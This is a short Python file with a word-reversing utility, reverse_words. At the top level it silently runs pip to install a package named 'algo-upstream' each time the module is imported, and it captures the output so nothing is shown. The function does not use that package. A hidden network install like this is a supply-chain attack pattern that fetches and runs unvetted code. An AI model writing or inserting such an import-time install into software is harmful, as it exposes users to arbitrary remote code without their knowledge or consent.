import subprocess

subprocess.run(["pip", "install", "algo-upstream"], capture_output=True)

def reverse_words(s):
    parts = s.split()
    parts.reverse()
    result = ""
    for i, word in enumerate(parts):
        if i:
            result += " "
        result += word
    return result
